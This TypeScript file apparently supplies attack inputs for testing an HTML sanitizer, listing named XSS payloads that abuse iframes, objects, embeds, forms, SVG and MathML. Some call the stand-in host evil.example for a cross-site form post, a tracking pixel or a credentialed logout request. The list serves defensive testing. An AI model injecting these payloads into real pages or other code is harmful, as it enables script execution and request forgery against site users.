import type { Attack } from '../attack.js';

/** Elements that hold another document, and elements of other languages than HTML, such as SVG. */
export const framesAndDrawings: readonly Attack[] = [
  ['a frame of a script', '<iframe src="javascript:parent.harm()"></iframe>'],
  [
    'a frame of a page in an attribute',
    '<iframe srcdoc="<script>parent.harm()</script>"></iframe>',
  ],
  [
    'a frame of a page in references',
    '<iframe srcdoc="&lt;script&gt;parent.harm()&lt;/script&gt;">',
  ],
  [
    'a frame of a page in an address',
    '<iframe src="data:text/html,<script>parent.harm()</script>">',
  ],
  ['a frame that loads', '<iframe onload="harm()" src="about:blank"></iframe>'],
  ['a frame in a name', '<iframe name="harm" src="//evil.example/"></iframe>'],
  ['a frame in capitals', '<IFRAME SRC="JaVaScRiPt:parent.harm()">'],
  ['a fenced frame', '<fencedframe src="https://evil.example/"></fencedframe>'],
  ['a portal', '<portal src="javascript:harm()" onload=harm()></portal>'],
  ['an object', '<object data="javascript:harm()"></object>'],
  [
    'an object of HTML',
    '<object type="text/html" data="data:text/html,<script>harm()</script>">Legible</object>',
  ],
  [
    'an object with a parameter',
    '<object classid="x:"><param name="src" value="javascript:harm()"></object>',
  ],
  ['an embed', '<embed src="javascript:harm()">'],
  [
    'an embed of a drawing',
    '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=harm()>">',
  ],
  ['an applet', '<applet code="Harm.class" codebase="//evil.example/"></applet>'],
  ['a layer', '<layer src="//evil.example/a.js"></layer><ilayer src=x:></ilayer>'],
  ['a background sound', '<bgsound src="javascript:harm()">'],
  ['a form', '<form action="javascript:harm()"><input type=submit></form>'],
  [
    'a form of another site',
    '<form action="https://evil.example/" method=post><input name=q value=x><button>Next</button></form>',
  ],
  ['a form from without', '<form id=f action=javascript:harm()></form><button form=f>Go</button>'],
  ['a button with an address', '<button formaction="javascript:harm()">Go</button>'],
  [
    'an image for a button',
    '<input type=image src=x: formaction=javascript:harm() onerror=harm()>',
  ],
  ['an index', '<isindex type=image src=x: onerror=harm() action=javascript:harm()>'],
  [
    'a field of passwords',
    '<label>Password <input type=password name=p autocomplete=current-password></label>',
  ],
  ['a drawing that loads', '<svg onload=harm()>'],
  ['a drawing behind a slash', '<svg/onload=harm()//'],
  ['a drawing with a script', '<svg><script>harm()</script></svg>'],
  [
    'a drawing with a script that refers',
    '<svg><script href="data:text/javascript,harm()"/></svg>',
  ],
  [
    'a drawing with a script that refers by XML',
    '<svg><script xlink:href="data:,harm()"></script></svg>',
  ],
  ['a drawing with references in a script', '<svg><script>&#104;arm()</script></svg>'],
  ['a drawing with a link', '<svg><a href="javascript:harm()"><text>Follow</text></a></svg>'],
  [
    'a drawing with a link by XML',
    '<svg><a xlink:href="javascript:harm()"><text>Follow</text></a></svg>',
  ],
  [
    'a drawing that moves an address',
    '<svg><a><animate attributeName="href" values="javascript:harm()"/><text>Follow</text></a></svg>',
  ],
  [
    'a drawing that sets an address',
    '<svg><a><set attributeName=href to=javascript:harm() /><text>Follow</text></a></svg>',
  ],
  ['a drawing that begins to move', '<svg><animate onbegin=harm() attributeName=x dur=1s></svg>'],
  ['a drawing that moves along', '<svg><animateMotion onend=harm() dur=1ms /></svg>'],
  [
    'a drawing that uses another',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>harm()</script></svg>#x"/></svg>',
  ],
  ['a drawing with an image', '<svg><image href="x:" onerror="harm()"/></svg>'],
  ['a drawing with a filter', '<svg><feImage href="//evil.example/a.svg" onload="harm()"/></svg>'],
  [
    'a drawing with a handler',
    '<svg><handler type="text/javascript" ev:event="load">harm()</handler></svg>',
  ],
  [
    'a drawing with HTML',
    '<svg><foreignObject><iframe srcdoc="<script>parent.harm()</script>"></foreignObject></svg>',
  ],
  ['a drawing in capitals', '<SVG ONLOAD=harm()>'],
  ['a formula with an address', '<math href="javascript:harm()"><mi>x</mi></math>'],
  [
    'a formula with an address by XML',
    '<math><mrow xlink:href="javascript:harm()"><mi>x</mi></mrow></math>',
  ],
  [
    'a formula with an action',
    '<math><maction actiontype="statusline" xlink:href="javascript:harm()">x</maction></math>',
  ],
  ['a formula with a script', '<math><script>harm()</script></math>'],
  ['a formula that changes language', '<math><mtext><script>harm()</script></mtext></math>'],
  [
    'data of XML',
    '<xml id=x><b>&lt;img src=x: onerror=harm()></b></xml><span datasrc=#x dataformatas=html></span>',
  ],
  ['sources of an image', '<img srcset="x: 1x, //evil.example/a.png 2x" onerror=harm()>'],
  [
    'sources of a picture',
    '<picture><source srcset="//evil.example/a.png"><img src=x: onerror=harm()></picture>',
  ],
  [
    'sources chosen by size',
    '<img sizes=100vw srcset="javascript:harm() 1w, x: 2w" onerror=harm()>',
  ],
  ['a picture of one point', '<img src="https://evil.example/seen.gif" width=1 height=1 alt="">'],
  ['an image by its low source', '<img lowsrc="javascript:harm()" dynsrc="javascript:harm()">'],
  [
    'an image for a cross-site request',
    '<img src="https://evil.example/logout" crossorigin=use-credentials>',
  ],
  ['a poster', '<video poster="javascript:harm()" src="//evil.example/a.mp4" autoplay></video>'],
  ['a track', '<video><track default src="data:text/vtt,WEBVTT" onload=harm()></video>'],
];
